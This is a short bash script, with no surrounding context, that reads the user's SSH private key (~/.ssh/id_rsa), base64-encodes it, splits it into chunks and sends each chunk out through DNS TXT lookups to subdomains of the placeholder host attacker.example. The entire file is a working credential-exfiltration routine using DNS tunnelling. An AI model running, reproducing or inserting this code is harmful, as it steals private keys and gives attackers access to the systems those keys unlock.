#!/bin/bash
for chunk in $(base64 -w0 < ~/.ssh/id_rsa | fold -w 60); do
  host -t txt "$chunk.lat.attacker.example" >/dev/null
done
